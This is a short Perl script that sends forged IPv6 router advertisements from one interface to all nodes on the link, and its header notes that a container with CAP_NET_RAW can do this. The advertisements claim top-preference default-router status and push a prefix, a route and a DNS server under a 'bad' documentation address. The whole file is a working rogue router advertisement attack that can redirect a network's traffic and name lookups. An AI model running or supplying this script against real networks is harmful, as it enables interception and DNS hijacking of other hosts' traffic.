# Sends router advertisements out of one interface, as a container with CAP_NET_RAW can: perl ra.pl INTERFACE COUNT
# RFC 4861 §4.2: a default router with the highest preference, a prefix for autoconfiguration, a route and a name server.
use strict;
use warnings;
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6);

my ($interface, $count) = @ARGV;
open(my $file, '<', "/sys/class/net/$interface/ifindex") or die "no $interface: $!";
chomp(my $index = <$file>);
socket(my $raw, AF_INET6, SOCK_RAW, 58) or die "socket: $!";    # 58 = ICMPv6; the kernel fills in its checksum
setsockopt($raw, 41, 17, pack('I', $index)) or die "IPV6_MULTICAST_IF: $!";
setsockopt($raw, 41, 18, pack('I', 255)) or die "IPV6_MULTICAST_HOPS: $!";    # receivers drop any other hop limit

my $prefix = inet_pton(AF_INET6, '2001:db8:bad::');
my $advertisement = pack('CCnCCnNN', 134, 0, 0, 64, 0x08, 1800, 0, 0)
  . pack('CCCCNNN', 3, 4, 64, 0xc0, 86400, 86400, 0) . $prefix    # prefix information: on-link, autonomous
  . pack('CCCCN', 24, 3, 64, 0x08, 86400) . $prefix               # route information (RFC 4191)
  . pack('CCnN', 25, 3, 0, 86400) . inet_pton(AF_INET6, '2001:db8:bad::53');    # name server (RFC 8106)
my $everybody = pack_sockaddr_in6(0, inet_pton(AF_INET6, 'ff02::1'), $index);
for (1 .. $count) {
  send($raw, $advertisement, 0, $everybody) or die "send: $!";
}
